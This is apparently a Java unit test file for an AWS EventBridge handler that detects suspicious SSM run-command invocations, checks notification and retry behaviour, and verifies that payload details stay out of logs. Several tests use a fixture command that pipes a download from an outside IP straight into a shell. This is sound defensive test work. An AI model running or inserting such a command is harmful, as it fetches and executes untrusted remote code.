package io.runwatch.aws;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.runwatch.core.service.NotificationFailedException;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

/** The EventBridge handler on core's real fixtures, with core's detection on in-memory ports. */
class DetectHandlerTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  static final String COMMAND_ID = "f49a1fe5-d12b-4ac0-98bc-0e4bd83d70c0";

  private final CapturingContext context = new CapturingContext();
  private final InMemoryDetection ports =
      new InMemoryDetection(Instant.parse("2025-02-19T16:33:00Z"));

  private JsonNode invoke(byte[] event) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new DetectHandler(() -> ports.detection)
        .handleRequest(new ByteArrayInputStream(event), out, context);
    return JSON.readTree(out.toByteArray());
  }

  @Test
  void responseIsWrittenWithoutClosingTheRuntimesStream() throws IOException {
    boolean[] closed = {false};
    ByteArrayOutputStream out =
        new ByteArrayOutputStream() {
          @Override
          public void close() {
            closed[0] = true;
          }
        };

    new DetectHandler(() -> ports.detection)
        .handleRequest(new ByteArrayInputStream(Events.bytes(Events.SEND_COMMAND)), out, context);

    assertThat(closed[0]).isFalse();
    assertThat(JSON.readTree(out.toByteArray()).path("commands").asInt()).isEqualTo(1);
  }

  @Test
  void aSuspiciousSendCommandIsStoredNotifiedAndLeftPendingForItsTelemetry() throws IOException {
    ports.content.script(COMMAND_ID, "AWS-RunShellScript", "curl -s http://203.0.113.7/x | sh");

    JsonNode response = invoke(Events.bytes(Events.SEND_COMMAND));

    assertThat(response.path("commands").asInt()).isEqualTo(1);
    assertThat(response.path("notified").asInt()).isPositive();
    assertThat(response.path("pendingAdded").asInt()).isEqualTo(1);
    assertThat(ports.notifier.published()).hasSize(response.path("notified").asInt());
    assertThat(ports.findings.all()).hasSize(response.path("findings").asInt());
    assertThat(ports.content.asked()).containsExactly(COMMAND_ID);
  }

  @Test
  void logLineHasCountsButNothingFromThePayload() throws IOException {
    ports.content.script(COMMAND_ID, "AWS-RunShellScript", "curl -s http://203.0.113.7/x | sh");
    invoke(Events.bytes(Events.SEND_COMMAND));

    JsonNode line = JSON.readTree(context.onlyLine());
    assertThat(line.path("handler").asText()).isEqualTo("DetectHandler");
    assertThat(line.path("commands").asInt()).isEqualTo(1);
    assertThat(line.path("records").asInt()).isEqualTo(1);
    assertThat(line.path("errors")).isEmpty();
    assertThat(context.onlyLine())
        .doesNotContain("bobson")
        .doesNotContain("1.2.3.4")
        .doesNotContain("i-006e4c07b5fba8ad2")
        .doesNotContain("f49a1fe5")
        .doesNotContain("203.0.113.7");
  }

  @Test
  void commandInvocationStatusChangeIsAStatusNotACommand() throws IOException {
    JsonNode response = invoke(Events.bytes(Events.INVOCATION_STATUS));

    assertThat(response.path("commands").asInt()).isZero();
    assertThat(response.path("statuses").asInt()).isEqualTo(1);
    assertThat(response.path("errors")).isEmpty();
  }

  @Test
  void malformedEventIsReportedAsATypedLocatedErrorAndNotThrown() throws IOException {
    JsonNode response = invoke(Events.brokenSendCommand().getBytes(StandardCharsets.UTF_8));

    assertThat(response.path("poison").asBoolean()).isTrue();
    assertThat(response.path("level").asText()).isEqualTo("WARN");
    assertThat(response.path("errors")).hasSize(1);
    JsonNode error = response.path("errors").get(0);
    assertThat(error.path("kind").asText()).isEqualTo("MALFORMED_JSON");
    assertThat(error.path("field").asText()).isEqualTo("/detail/eventName");
    assertThat(ports.findings.all()).isEmpty();
  }

  @Test
  void truncatedEventIsReportedAsTruncated() throws IOException {
    byte[] whole = Events.bytes(Events.SEND_COMMAND);

    JsonNode response = invoke(Arrays.copyOf(whole, whole.length / 2));

    assertThat(response.path("errors").get(0).path("kind").asText()).isEqualTo("TRUNCATED");
  }

  @Test
  void aNotificationOutageFailsTheInvocationSoEventBridgeRetries() {
    ports.content.script(COMMAND_ID, "AWS-RunShellScript", "curl -s http://203.0.113.7/x | sh");
    ports.notifier.failNext(100);

    assertThatThrownBy(() -> invoke(Events.bytes(Events.SEND_COMMAND)))
        .isInstanceOf(NotificationFailedException.class);
    assertThat(ports.findings.all()).as("stored before the failed notification").isNotEmpty();
  }
}
